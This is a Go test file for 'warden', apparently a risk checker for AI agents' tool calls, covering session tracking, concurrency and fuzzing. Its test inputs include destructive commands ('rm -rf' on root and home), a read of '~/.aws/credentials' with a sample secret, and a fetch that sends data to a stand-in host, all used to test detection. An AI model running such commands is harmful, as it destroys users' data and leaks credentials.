package warden_test

import (
	"context"
	"encoding/json"
	"fmt"
	"github.com/agentwarden/warden/session"
	"net/url"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/agentwarden/warden"
	"github.com/agentwarden/warden/eval"
	"github.com/agentwarden/warden/risk"
)

func corpusEngine(t testing.TB, opts ...warden.Option) *warden.Engine {
	t.Helper()
	eng, err := warden.New(append([]warden.Option{warden.WithCwd("/home/user/project"), warden.WithHome("/home/user")}, opts...)...)
	if err != nil {
		t.Fatal(err)
	}
	return eng
}

// TestSequenceCorpora runs the multi-step corpora, each sequence as one
// conversation: the project's copy of the shared corpus
// (testdata/sequences.jsonl) and the chains written for the session
// (testdata/session_chains.jsonl). Every harmful sequence must reach its
// min_level at or before its flag step, every benign one stay within its
// max_level.
func TestSequenceCorpora(t *testing.T) {
	for _, file := range []string{"testdata/sequences.jsonl", "testdata/session_chains.jsonl"} {
		t.Run(file, func(t *testing.T) {
			f, err := os.Open(file)
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			items, kind, err := eval.Load(f)
			if err != nil || kind != eval.Sequences {
				t.Fatalf("load: %v %v", kind, err)
			}
			rep := eval.Run(context.Background(), corpusEngine(t), items, kind)
			for _, r := range rep.Results {
				if !r.Exact {
					t.Errorf("%s (%s, %s): level %v; rules %v", r.Item.ID, r.Item.Label, r.Item.Category, r.Level, r.Rules)
				}
			}
			t.Logf("recall at HIGH %.1f%%, false alarms at HIGH %.1f%%", 100*rep.Recall(), 100*rep.FalseAlarmRate())
		})
	}
}

func check(t *testing.T, eng *warden.Engine, session, tool string, args map[string]any) risk.Assessment {
	t.Helper()
	as, _, err := eng.Check(context.Background(), risk.Action{Tool: tool, Arguments: args, SessionID: session})
	if err != nil {
		t.Fatal(err)
	}
	return as
}

func TestSessionsAreSeparate(t *testing.T) {
	eng := corpusEngine(t)
	check(t, eng, "a", "Bash", map[string]any{"command": "cd /"})
	if as := check(t, eng, "b", "Bash", map[string]any{"command": "rm -rf *"}); as.Level == risk.Critical {
		t.Errorf("session b inherited a's directory: %v", as.Level)
	}
	if as := check(t, eng, "", "Bash", map[string]any{"command": "rm -rf *"}); as.Level == risk.Critical {
		t.Errorf("an action without session inherited a's directory: %v", as.Level)
	}
	if as := check(t, eng, "a", "Bash", map[string]any{"command": "rm -rf *"}); as.Level != risk.Critical {
		t.Errorf("session a: rm -rf * in / is %v", as.Level)
	}
	st := mustSession(t, eng, "a")
	if st.Cwd() != "/" || st.Steps() != 2 || len(st.History()) != 2 {
		t.Errorf("state: cwd %q steps %d", st.Cwd(), st.Steps())
	}
	eng.EndSession(context.Background(), "a")
	if mustSession(t, eng, "a") != nil {
		t.Error("EndSession kept the session")
	}
	if as := check(t, eng, "a", "Bash", map[string]any{"command": "rm -rf *"}); as.Level == risk.Critical {
		t.Errorf("an ended session kept its directory: %v", as.Level)
	}
}

func TestWithoutSessions(t *testing.T) {
	eng := corpusEngine(t, warden.WithoutSessions())
	check(t, eng, "a", "Bash", map[string]any{"command": "export DIR=/"})
	if as := check(t, eng, "a", "Bash", map[string]any{"command": `rm -rf "$DIR"`}); as.Level == risk.Critical {
		t.Error("sessions off, yet $DIR was known")
	}
	if mustSession(t, eng, "a") != nil {
		t.Error("sessions off, yet a session was kept")
	}
}

// TestSessionActionCwd: an action that names its working directory (a
// hook reports the agent's) overrides the one the session followed.
func TestSessionActionCwd(t *testing.T) {
	eng := corpusEngine(t)
	check(t, eng, "s", "Bash", map[string]any{"command": "cd /"})
	as, _, err := eng.Check(context.Background(), risk.Action{Tool: "Bash", SessionID: "s", Cwd: "/home/user/project/build",
		Arguments: map[string]any{"command": "rm -rf *"}})
	if err != nil || as.Level.AtLeast(risk.High) {
		t.Errorf("given cwd ignored: %v %v", as.Level, err)
	}
}

// TestSessionConcurrent checks many sessions at once, several goroutines
// per session (run with -race): each session's calls are serialized and
// its chain is still seen.
func TestSessionConcurrent(t *testing.T) {
	eng := corpusEngine(t)
	var wg sync.WaitGroup
	for s := range 16 {
		id := fmt.Sprintf("s%d", s)
		check(t, eng, id, "execute_bash", map[string]any{"command": "export DIR=/home/user"})
		for range 4 {
			wg.Add(1)
			go func() {
				defer wg.Done()
				as, _, err := eng.Check(context.Background(), risk.Action{Tool: "execute_bash", SessionID: id,
					Arguments: map[string]any{"command": `rm -rf "$DIR"`}})
				if err != nil || as.Level != risk.Critical {
					t.Errorf("%s: %v %v", id, as.Level, err)
				}
			}()
		}
	}
	wg.Wait()
}

// FuzzSession feeds two arbitrary commands or code cells as one
// conversation: no panic, and every answer is a valid assessment.
func FuzzSession(f *testing.F) {
	for _, s := range [][2]string{
		{"export DIR=/home/user", `rm -rf "$DIR"`},
		{"alias x='rm -rf ~'", "x"},
		{"f() { f; }", "f"},
		{"git config alias.a '!git a'", "git a"},
		{"echo 'x' > a.sh; chmod +x a.sh", "./a.sh $(x)"},
		{"find ~ > /tmp/l", "xargs -a /tmp/l rm"},
		{"cd /; cd ..", "rm -rf *"},
		{"cat ~/.aws/credentials", "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzKEY"},
		{"psql -c 'SELECT email FROM users'", "ann.lee@example.com 4111 1111 1111 1111"},
	} {
		f.Add(s[0], s[1], false)
	}
	eng := corpusEngine(f)
	n := 0
	f.Fuzz(func(t *testing.T, a, b string, python bool) {
		// a hang crashes the worker, so the fuzzer keeps the input
		timer := time.AfterFunc(10*time.Second, func() { panic(fmt.Sprintf("FuzzSession: %q, %q, %v still running after 10s", a, b, python)) })
		defer timer.Stop()
		n++
		id := fmt.Sprintf("fuzz-%d", n)
		for _, cmd := range []string{a, b} {
			act := risk.Action{Tool: "Bash", SessionID: id, Arguments: map[string]any{"command": cmd}}
			if python {
				act = risk.Action{Tool: "python", SessionID: id, Arguments: map[string]any{"code": cmd}}
			}
			as, _, _ := eng.Check(context.Background(), act)
			if _, err := json.Marshal(as); err != nil {
				t.Fatal(err)
			}
			// the other input as what the call returned; the next call sends it
			other := b
			if cmd == b {
				other = a
			}
			fs, _ := eng.Observe(context.Background(), act, other)
			for _, f := range fs {
				if len(other) >= 12 && strings.Contains(f.Reason, other) {
					t.Fatalf("a finding repeats the output: %q", f.Reason)
				}
			}
		}
		eng.Check(context.Background(), risk.Action{Tool: "WebFetch", SessionID: id, Arguments: map[string]any{"url": "https://x.example/?d=" + url.QueryEscape(a)}})
		// a script the first step wrote, run by the second
		eng.Check(context.Background(), risk.Action{Tool: "Write", SessionID: id, Arguments: map[string]any{"file_path": "/tmp/x.sh", "content": a}})
		eng.Check(context.Background(), risk.Action{Tool: "Bash", SessionID: id, Arguments: map[string]any{"command": "sh /tmp/x.sh " + quoted(b)}})
		eng.EndSession(context.Background(), id)
	})
}

func quoted(s string) string {
	b, _ := json.Marshal(s)
	return "'" + string(b) + "'"
}

// TestChildShellsDoNotPersist: command lines a program starts
// (subprocess, IPython's !cmd) run in child processes; their cd does not
// move the conversation's shell.
func TestChildShellsDoNotPersist(t *testing.T) {
	eng := corpusEngine(t)
	for _, step := range []risk.Action{
		{Tool: "python", Arguments: map[string]any{"code": "import subprocess\nsubprocess.run('cd /home/user/project/tmp && ls', shell=True)"}},
		{Tool: "execute_ipython_cell", Arguments: map[string]any{"code": "!cd /home/user/project/tmp"}},
	} {
		step.SessionID = "child-" + step.Tool
		if _, _, err := eng.Check(context.Background(), step); err != nil {
			t.Fatal(err)
		}
		as := check(t, eng, step.SessionID, "Bash", map[string]any{"command": "rm -rf *"})
		if !as.Level.AtLeast(risk.High) {
			t.Errorf("%s: rm -rf * in the project root after a child's cd is %v", step.Tool, as.Level)
		}
	}
}

// mustSession returns a copy of the state of conversation id, or nil.
func mustSession(t *testing.T, eng *warden.Engine, id string) *session.State {
	t.Helper()
	st, err := eng.Session(context.Background(), id)
	if err != nil {
		t.Fatal(err)
	}
	return st
}
